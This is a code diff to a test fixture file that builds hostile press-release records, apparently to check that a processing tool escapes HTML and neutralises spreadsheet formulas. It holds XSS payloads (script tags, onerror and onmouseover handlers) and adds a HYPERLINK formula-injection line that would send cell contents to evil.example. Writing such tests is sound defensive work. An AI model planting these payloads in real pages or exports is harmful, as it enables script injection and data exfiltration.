@@ -13,6 +13,8 @@ HOSTILE_SPEAKER = '<img src=x onerror="window.__pwned=\'speaker\'"> Psaki "><scr
 HOSTILE_TEXT = ('Read <script>window.__pwned = "text"</script> and <img src=x onerror="window.__pwned=1"> '
                 'about the pipeline sanctions "onmouseover="window.__pwned=2" now.')
 
+FORMULA_TEXT = '=HYPERLINK("http://evil.example/?leak="&A1,"pipeline sanctions details")'
+
 
 def shared_slice(folder: Path, records: int = 25) -> Path:
     """``records`` real press releases from each of the two exports, in one folder."""
@@ -39,7 +41,8 @@ def hostile_file(folder: Path) -> tuple[Path, Path]:
         "creator": '"><script>window.__pwned="creator"</script>',
         "published": "2021-06-09T21:30:00+00:00",
         "content_html": (f"<p><b>MS. PSAKI: </b>{html_text}</p>"
-                         f"<p>{html_text} The pipeline sanctions again.</p>"),
+                         f"<p>{html_text} The pipeline sanctions again.</p>"
+                         f"<p>{_escaped(FORMULA_TEXT)}</p>"),
     }
     path = folder / "hostile.jsonl"
     path.write_text(json.dumps(record) + "\n", encoding="utf-8")
